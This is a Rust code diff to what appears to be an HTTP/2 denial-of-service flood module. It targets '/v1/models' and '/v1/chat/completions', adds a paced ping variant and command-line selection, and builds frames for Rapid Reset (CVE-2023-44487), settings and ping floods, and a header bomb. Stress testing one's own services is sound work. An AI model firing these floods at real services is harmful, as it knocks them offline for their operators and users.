@@ -3,6 +3,8 @@
 
 use std::net::SocketAddr;
 
+use clap::ValueEnum;
+
 use super::frames::{END, END_HEADERS, Frames, Kind, frame, indexed, literal, remembered, request};
 
 /// A page that needs a key: it is refused with little work, so that a flood of requests is one of frames.
@@ -12,7 +14,8 @@ pub const PAGE: &str = "/v1/models";
 pub const CALL: &str = "/v1/chat/completions";
 
 /// A flood.
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
+#[value(rename_all = "snake_case")]
 pub enum Attack {
     /// Streams opened and reset at once (CVE-2023-44487).
     RapidReset,
@@ -22,6 +25,8 @@ pub enum Attack {
     Settings,
     /// Pings likewise.
     Pings,
+    /// Pings one by one, each after the answer to the one before.
+    AnsweredPings,
     /// A byte that stands for kilobytes of headers, thousands of times.
     HeaderBomb,
     /// Frames of no content.
@@ -32,11 +37,12 @@ pub enum Attack {
 
 impl Attack {
     /// All of them.
-    pub const ALL: [Self; 7] = [
+    pub const ALL: [Self; 8] = [
         Self::RapidReset,
         Self::Continuation,
         Self::Settings,
         Self::Pings,
+        Self::AnsweredPings,
         Self::HeaderBomb,
         Self::EmptyData,
         Self::Priorities,
@@ -50,6 +56,7 @@ impl Attack {
             Self::Continuation => "continuation",
             Self::Settings => "settings",
             Self::Pings => "pings",
+            Self::AnsweredPings => "answered_pings",
             Self::HeaderBomb => "header_bomb",
             Self::EmptyData => "empty_data",
             Self::Priorities => "priorities",
@@ -65,8 +72,11 @@ impl Attack {
             if self == Self::RapidReset {
                 piece = opened_and_reset(round);
             }
-            if frames.flood(&piece, 1).await == 0 {
+            if piece.is_empty() || frames.flood(&piece, 1).await == 0 {
                 break;
+            }
+            if self == Self::AnsweredPings {
+                frames.skip().await;
             }
         }
         frames
@@ -85,6 +95,7 @@ impl Attack {
                 let table = [0, 1, 0, 0, 0x10, 0];
                 (Vec::new(), frame(Kind::Settings, 0, 0, &table).repeat(300))
             }
+            Self::AnsweredPings => (Vec::new(), frame(Kind::Ping, 0, 0, b"are-you?")),
             Self::Pings => (Vec::new(), frame(Kind::Ping, 0, 0, b"are-you?").repeat(300)),
             Self::HeaderBomb => {
                 let seed = remembered("x-bomb", &"y".repeat(3_000));
